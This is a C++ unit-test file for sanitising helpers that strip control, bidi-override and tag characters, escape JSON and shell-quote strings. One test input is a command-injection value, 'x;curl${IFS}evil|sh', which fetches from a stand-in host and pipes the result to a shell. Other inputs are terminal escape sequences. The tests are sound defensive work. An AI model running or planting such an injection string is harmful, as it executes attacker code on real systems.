#include "client/plain_text.h"

#include <string>

#include "gtest/gtest.h"

namespace client {
namespace {

TEST(OneLine, KeepsWhatPeopleWrite) {
  for (const std::string& text : {std::string("ann apple=2"), std::string("Gr\xC3\xBC\xC3\x9F"),
                                  std::string("\xE6\x97\xA5\xE6\x9C\xAC"),
                                  std::string("\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F"
                                              "\x92\xBB"),
                                  std::string("\xD9\x85\xDB\x8C\xE2\x80\x8C\xD8\xAE")}) {
    EXPECT_EQ(OneLine(text), text);
  }
}

TEST(OneLine, HasNoControlCharactersOfAnyPlane) {
  EXPECT_EQ(OneLine("a\nb\x1b[2Jc\x7f"), "a b [2Jc ");
  EXPECT_EQ(OneLine("a\xC2\x9B"
                    "2J"),
            "a 2J");  // C1: CSI in one character.
  EXPECT_EQ(OneLine("a\xE2\x80\xAE"
                    "b"),
            "a b");  // U+202E, an override.
  EXPECT_EQ(OneLine("a\xE2\x81\xA6"
                    "b"),
            "a b");  // U+2066, an isolate.
  EXPECT_EQ(OneLine("a\xE2\x80\xA8"
                    "b"),
            "a b");  // U+2028, a line's end.
  EXPECT_EQ(OneLine("a\xEF\xBB\xBF"
                    "b"),
            "a b");  // U+FEFF.
  EXPECT_EQ(OneLine("a\xF3\xA0\x81\x81"
                    "b"),
            "a b");  // U+E0041, a tag.
  EXPECT_EQ(OneLine(std::string("a\0b", 3)), "a b");
}

TEST(OneLine, IsUtf8) {
  EXPECT_EQ(OneLine("a\x9b"
                    "2J\xff"),
            "a\xEF\xBF\xBD"
            "2J\xEF\xBF\xBD");
  EXPECT_EQ(OneLine("\xC0\x9B"), "\xEF\xBF\xBD\xEF\xBF\xBD");  // Too long for what it says.
  EXPECT_EQ(OneLine("\xE2\x80"), "\xEF\xBF\xBD\xEF\xBF\xBD");  // Cut off.
}

TEST(PlainJson, EscapesWhatIsNotPlain) {
  EXPECT_EQ(PlainJson("{\"sku\":\"caf\xC3\xA9\"}"), "{\"sku\":\"caf\xC3\xA9\"}");
  EXPECT_EQ(PlainJson("{\"sku\":\"\xE2\x80\xAE\xC2\x9B\xF3\xA0\x81\x81\"}"),
            "{\"sku\":\"\\u202e\\u009b\\udb40\\udc41\"}");
}

TEST(ShellWordTest, IsOneWordWhateverItContains) {
  EXPECT_EQ(ShellWord("a-Z.0_9:=+/"), "a-Z.0_9:=+/");
  EXPECT_EQ(ShellWord(""), "''");
  EXPECT_EQ(ShellWord("x;curl${IFS}evil|sh"), "'x;curl${IFS}evil|sh'");
  EXPECT_EQ(ShellWord("a'`b`"), "'a'\\''`b`'");
}

}  // namespace
}  // namespace client
